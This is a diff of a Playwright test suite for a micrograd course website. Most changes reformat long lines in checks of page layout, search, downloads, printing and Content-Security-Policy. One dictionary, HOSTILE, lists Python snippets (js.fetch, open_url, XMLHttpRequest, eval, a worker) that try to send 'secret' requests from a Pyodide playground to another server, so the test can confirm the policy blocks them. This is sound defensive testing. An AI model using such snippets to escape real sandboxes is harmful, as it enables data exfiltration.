@@ -31,7 +31,9 @@ SHOWN = "el => !!el && el.getClientRects().length > 0 && getComputedStyle(el).vi
 
 def policy_of(html_file):
     """{directive: sources} of a built page's Content-Security-Policy <meta>, or None."""
-    found = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)"', html_file.read_text("utf-8"))
+    found = re.search(
+        r'<meta http-equiv="Content-Security-Policy" content="([^"]+)"', html_file.read_text("utf-8")
+    )
     if not found:
         return None
     return {d.split()[0]: d.split()[1:] for d in found.group(1).split(";") if d.strip()}
@@ -105,7 +107,9 @@ def check_policies(run):
     """Every built page has a policy that lets nothing reach another address."""
     pages = sorted(run.SITE.glob("*.html"))
     missing = [p.name for p in pages if policy_of(p) is None]
-    run.check(len(pages) > 10 and not missing, f"csp: every one of {len(pages)} pages has a policy {missing or ''}")
+    run.check(
+        len(pages) > 10 and not missing, f"csp: every one of {len(pages)} pages has a policy {missing or ''}"
+    )
     loose = []
     for p in pages:
         rules = policy_of(p) or {}
@@ -140,12 +144,14 @@ def check_chapter(page, run, base, viewport, scheme):
         """() => {
       const box = el => el.getBoundingClientRect();
       const main = box(document.querySelector('main'));
-      const side = document.querySelector('.course-sidebar'), outline = document.querySelector('.course-outline');
+      const side = document.querySelector('.course-sidebar');
+      const outline = document.querySelector('.course-outline');
       const folds = [...document.querySelectorAll('details.course-fold')].map(d => d.open);
       const heads = [...document.querySelectorAll('main h2[id], main h3[id]')].map(h => h.id);
       const links = [...outline.querySelectorAll('a')].map(a => decodeURIComponent(a.hash.slice(1)));
       const chapters = [...side.querySelectorAll('nav a')];
-      const current = chapters.filter(a => a.getAttribute('aria-current') === 'page').map(a => a.getAttribute('href'));
+      const current = chapters.filter(a => a.getAttribute('aria-current') === 'page')
+        .map(a => a.getAttribute('href'));
       const text = getComputedStyle(document.querySelector('main p')).color;
       const tries = [...document.querySelectorAll('.course-try-it a, .course-downloads a')].map(a => {
         const s = getComputedStyle(a);
@@ -158,7 +164,9 @@ def check_chapter(page, run, base, viewport, scheme):
               scroll: document.documentElement.scrollWidth};
     }"""
     )
-    run.check(state["scroll"] <= viewport["width"], f"{where}: nothing wider than the screen ({state['scroll']} px)")
+    run.check(
+        state["scroll"] <= viewport["width"], f"{where}: nothing wider than the screen ({state['scroll']} px)"
+    )
     run.check(state["links"] == state["heads"] and len(state["heads"]) > 5,
               f"{where}: the outline links every heading of the page, in order ({len(state['links'])}"
               f" of {len(state['heads'])})")  # fmt: skip
@@ -184,9 +192,10 @@ def check_chapter(page, run, base, viewport, scheme):
     run.check(-2 <= top <= 40, f"{where}: an outline entry scrolls to its heading (top at {top:.0f} px)")
     page.evaluate("window.scrollTo(0, 0)")
     links = state["tries"]
-    run.check(len(links) == 3 and all(t["color"] != state["text"] and "underline" in t["line"] and
-              "Times" not in t["font"] and t["size"] >= 14 and t["left"] for t in links),
-              f"{where}: the try-it and download links look like links, in the text's column {links}")  # fmt: skip
+    looks = [t["color"] != state["text"] and "underline" in t["line"] and "Times" not in t["font"]
+             and t["size"] >= 14 and t["left"] for t in links]  # fmt: skip
+    run.check(len(links) == 3 and all(looks),
+              f"{where}: try-it and download links look like links, in the text's column {links}")  # fmt: skip
     page.screenshot(path=str(run.SHOTS / f"site_{CHAPTER[:2]}_{viewport['width']}_{scheme}.png"))
     page.evaluate("() => document.querySelectorAll('details.course-fold').forEach(d => { d.open = true; })")
     run.axe_check(page, where, {}, None if scheme == "light" else COLOUR_RULES)
@@ -208,9 +217,13 @@ def check_search(page, run, base, viewport, scheme):
         " [a.textContent.trim(), new URL(a.href).pathname.split('/').pop()])"
     )
     pages = sorted({p for _, p in found})  # a page's sub-results link to it too
-    run.check(expected and pages == expected, f"{where}: {WORD!r} found in {pages}, the chapters that use it {expected}")
+    run.check(
+        expected and pages == expected,
+        f"{where}: {WORD!r} found in {pages}, the chapters that use it {expected}",
+    )
     if viewport["width"] >= 1100 and scheme == "light":
-        print(f"     search {WORD!r}: {len(pages)} page(s), {len(found)} links, first {found[0] if found else None}")
+        first = found[0] if found else None
+        print(f"     search {WORD!r}: {len(pages)} page(s), {len(found)} links, first {first}")
     page.screenshot(path=str(run.SHOTS / f"site_search_{viewport['width']}_{scheme}.png"))
     run.axe_check(page, where, {}, None if scheme == "light" else COLOUR_RULES)
     no_violations(page, run, where)
@@ -249,7 +262,10 @@ def check_downloads(page, run, base):
     for html_file in sorted(run.SITE.glob("[0-9][0-9]_*.html")):
         hrefs = re.findall(r'class="course-downloads".*?</p>', html_file.read_text("utf-8"), flags=re.S)
         targets = re.findall(r'href="([^"]+)"', hrefs[0]) if hrefs else []
-        if [Path(t).name for t in targets] != [html_file.stem + ".ipynb", "micrograd_lesson-0.1.0-py3-none-any.whl"]:
+        if [Path(t).name for t in targets] != [
+            html_file.stem + ".ipynb",
+            "micrograd_lesson-0.1.0-py3-none-any.whl",
+        ]:
             missing.append(html_file.name)
     run.check(not missing, f"download: every chapter links its notebook and the wheel {missing or ''}")
     page.goto(base + CHAPTER + ".html")
@@ -263,9 +279,12 @@ def check_downloads(page, run, base):
     stored = root / "notebooks" / (CHAPTER + ".ipynb")
     run.check(notebook is not None and notebook.read_bytes() == stored.read_bytes(),
               f"download: the notebook arrives as stored ({sorted(got)})")  # fmt: skip
-    source = re.search(r'PACKAGE_SOURCE = "([^"]+)"', (root / "notebooks" / "src" / "build.py").read_text("utf-8"))
+    source = re.search(
+        r'PACKAGE_SOURCE = "([^"]+)"', (root / "notebooks" / "src" / "build.py").read_text("utf-8")
+    )
     names = zipfile.ZipFile(wheel).namelist() if wheel else []
-    run.check(wheel is not None and source and source.group(1) in got and "micrograd_lesson/engine.py" in names,
+    has_package = "micrograd_lesson/engine.py" in names
+    run.check(wheel is not None and source and source.group(1) in got and has_package,
               f"download: the wheel the notebook installs ({source and source.group(1)}), with the package"
               f" ({len(names)} files)")  # fmt: skip
 
@@ -289,7 +308,7 @@ def check_print(page, run, base):
     run.check(state["nav"] and state["links"], f"print: no navigation, search, outline or site links {state}")
     run.check(state["main"] >= run.VIEWPORT["width"] - 40, f"print: the text takes the page's width {state}")
     run.check(state["frames"] > 1 and state["shown"] == state["frames"],
-              f"print: every frame of the step-through is printed ({state['shown']} of {state['frames']})")  # fmt: skip
+              f"print: every step-through frame printed ({state['shown']} of {state['frames']})")  # fmt: skip
     page.screenshot(path=str(run.SHOTS / f"site_{CHAPTER[:2]}_print.png"))
     pdf = page.pdf()
     run.check(pdf.startswith(b"%PDF") and len(pdf) > 10_000, f"print: a PDF of {len(pdf) // 1024} KB")
@@ -302,7 +321,7 @@ def check_print(page, run, base):
 HOSTILE = {
     "js.fetch": "import js\njs.fetch('{url}fetch?secret=1')\n",
     "open_url": "from pyodide.http import open_url\nopen_url('{url}open_url?secret=1')\n",
-    "the fetch behind the sentence": "import js\njs.WorkerGlobalScope.prototype.fetch.call(js, '{url}proto')\n",
+    "the fetch behind the sentence": "import js\njs.WorkerGlobalScope.prototype.fetch.call(js, '{url}p')\n",
     "XMLHttpRequest": "import js\nr = js.XMLHttpRequest.new()\nr.open('GET', '{url}xhr', False)\nr.send()\n",
     "eval": "import js\njs.eval(\"fetch('{url}eval')\")\n",
     "a worker of its own": (
@@ -323,7 +342,10 @@ def check_playground_is_closed(page, run, base):
         page.evaluate("url => fetch(url + 'control').catch(() => null)", elsewhere.url)
         page.wait_for_timeout(300)
         third.stop()
-        run.check(elsewhere.seen == ["/control"], f"csp: the other server answers a page without a policy {elsewhere.seen}")
+        run.check(
+            elsewhere.seen == ["/control"],
+            f"csp: the other server answers a page without a policy {elsewhere.seen}",
+        )
         page.goto(base + "playground.html")
         page.wait_for_function(run.PLAYGROUND_READY, timeout=180_000)
         for way, code in HOSTILE.items():
@@ -336,13 +358,20 @@ def check_playground_is_closed(page, run, base):
                   f"csp: nothing from the playground reached the other server, {len(HOSTILE)} ways tried"
                   f" {elsewhere.seen[1:]}")  # fmt: skip
         values, error = run.playground_run(page, 'a=Value(2.0,label="a"); b=a*a; b.backward()')
-        run.check(not error and values.get("a", ("", ""))[1] == "4.0000", f"csp: the playground still runs {error}")
+        run.check(
+            not error and values.get("a", ("", ""))[1] == "4.0000", f"csp: the playground still runs {error}"
+        )
         page.screenshot(path=str(run.SHOTS / "playground_csp.png"))
         _, error = run.playground_run(page, HOSTILE["js.fetch"].format(url=elsewhere.url))
         page.screenshot(path=str(run.SHOTS / "playground_network_blocked.png"))
         for scheme in ("light", "dark"):
             page.emulate_media(color_scheme=scheme)
-            run.axe_check(page, f"playground, network blocked, {scheme}", {}, None if scheme == "light" else COLOUR_RULES)
+            run.axe_check(
+                page,
+                f"playground, network blocked, {scheme}",
+                {},
+                None if scheme == "light" else COLOUR_RULES,
+            )
         page.emulate_media(color_scheme="light")
     finally:
         elsewhere.stop()
